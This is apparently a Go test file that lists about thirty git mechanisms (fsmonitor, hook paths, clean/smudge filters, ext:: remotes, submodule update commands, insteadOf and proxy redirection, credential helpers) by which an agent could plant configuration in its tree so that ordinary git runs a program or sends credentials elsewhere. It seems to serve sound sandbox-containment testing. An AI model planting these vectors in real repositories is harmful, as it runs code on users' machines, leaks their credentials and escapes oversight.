package main_test

// vector is a way to have git do something for the author of its tree. The
// words in capitals are put in by the test: EVIL is a program that leaves its
// vector's name in the folder CANARY, SINK is where credentials would be heard,
// REMOTE is the repository on GitHub, AT a folder of the agent's own.
type vector struct {
	name  string
	plant string // what the agent leaves in its tree
	fire  string // what has plain git do it, in that tree
	alone bool   // it leaves a repository in which others could not be laid
}

const (
	marked   = `echo '* filter=evil diff=evil merge=evil' >>.git/info/attributes; `
	watching = `printf '[core]\n\tfsmonitor = EVIL\n' >`
	missing  = `git rm -qr --cached .; echo gone >gone.txt; git add gone.txt; git commit -qm gone; id=$(git rev-parse HEAD:gone.txt); rm -f .git/objects/$(echo $id | cut -c1-2)/$(echo $id | cut -c3-); rm gone.txt; `
)

// gitVectors are those of the tree's own repository.
var gitVectors = []vector{
	{"core.fsmonitor", `git config core.fsmonitor EVIL`, `git status`, false},
	{"core.hooksPath", asHooks("AT/hooks") + `; git config core.hooksPath AT/hooks`, `git commit -qm x --allow-empty`, false},
	{"hooks in .git", asHooks(".git/hooks"), `git commit -qm x --allow-empty`, false},
	{"filter.clean", marked + `git config filter.evil.clean EVIL; echo 2 >>README.md`, `git add -A`, false},
	{"filter.smudge", marked + `git config filter.evil.smudge EVIL; git config filter.evil.required true`, `rm README.md; git checkout -f -- README.md`, false},
	{"filter.process", marked + `git config filter.evil.process EVIL; echo 2 >>README.md`, `git add -A`, false},
	{"diff.external", `git config diff.external EVIL; echo 2 >>README.md`, `git diff`, false},
	{"diff.textconv", marked + `git config diff.evil.textconv EVIL; echo 2 >>README.md`, `git diff`, false},
	{"diff.command", marked + `git config diff.evil.command EVIL; echo 2 >>README.md`, `git diff`, false},
	{
		"merge.driver", marked + `git config merge.evil.driver EVIL`,
		`git checkout -qb side; echo a >README.md; git commit -qam a; git checkout -q -; echo b >README.md; git commit -qam b; git merge side`, false,
	},
	{"gpg.program", `git config gpg.program EVIL; git config commit.gpgSign true`, `git commit -qm x --allow-empty`, false},
	{"core.editor", `git config core.editor EVIL`, `git commit -q --allow-empty`, false},
	{"core.sshCommand", `git config core.sshCommand EVIL; git config remote.origin.url ssh://missing.invalid/x`, `git fetch origin`, false},
	{"core.gitProxy", `git config core.gitProxy EVIL; git config remote.origin.url git://missing.invalid/x`, `git fetch origin`, false},
	{"core.alternateRefsCommand", `git config core.alternateRefsCommand EVIL`, `git rev-list --alternate-refs`, false},
	{"trailer.command", `git config trailer.x.key X; git config trailer.x.command EVIL; git config trailer.x.ifmissing add`, `echo | git interpret-trailers --trailer x=1`, false},
	{"remote.uploadpack", `git config remote.origin.url "$PWD"; git config remote.origin.uploadpack EVIL`, `git fetch origin`, false},
	{"ext:: as the remote", `git config remote.origin.url 'ext::EVIL'; git config protocol.ext.allow always`, `git fetch origin`, false},
	{
		"lazy fetch", missing + `git config core.repositoryFormatVersion 1; git config extensions.partialClone evil; git config remote.evil.promisor true;
git config remote.evil.url 'ext::EVIL'; git config protocol.ext.allow always`, `git log -p`, true,
	},
	{"include.path", watching + `AT/more; git config include.path AT/more`, `git status`, false},
	{"config.worktree", `git config extensions.worktreeConfig true; ` + watching + `.git/config.worktree`, `git status`, false},
	{"core.worktree", `git config core.worktree CANARY`, `git reset -q --hard`, true},
	{".git as a file", `mv .git AT/git; echo "gitdir: AT/git" >.git; ` + watching + `AT/git/config`, `git status`, true},
	{".git as a link", `mv .git AT/git; ln -s AT/git .git; ` + watching + `AT/git/config`, `git status`, true},
	{"commondir", `cp -r .git AT/common; echo AT/common >.git/commondir; ` + watching + `AT/common/config`, `git status`, true},
	{
		"submodule.update", `git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),sub; git config submodule.sub.update '!EVIL'; git config submodule.sub.url "$PWD";
printf '[submodule "sub"]\n\tpath = sub\n\turl = ./x\n' >.gitmodules`, `git submodule update`, true,
	},
	// These run nothing: they have what is sent to GitHub sent elsewhere.
	{"url.insteadOf", `git config url.SINK/.insteadOf REMOTE`, asking, false},
	{"url.pushInsteadOf", `git config url.SINK/.pushInsteadOf REMOTE`, `git -c http.extraHeader="$AUTH" push REMOTE HEAD:refs/heads/x`, false},
	{"http.proxy", `git config http.proxy SINK`, asking, false},
	{"remote.url", `git config remote.REMOTE.url SINK/x.git`, asking, false},
	{"credential.helper", `git config credential.helper '!EVIL'`, `printf 'url=%s\nusername=x\npassword=y\n\n' REMOTE | git credential approve`, false},
}

const asking = `git -c http.extraHeader="$AUTH" ls-remote REMOTE`

// asHooks leaves the vector's program as every hook in dir.
func asHooks(dir string) string {
	return `mkdir -p ` + dir + `; for hook in pre-commit post-commit post-checkout post-index-change reference-transaction post-rewrite; do cp EVIL ` + dir + `/$hook; done`
}
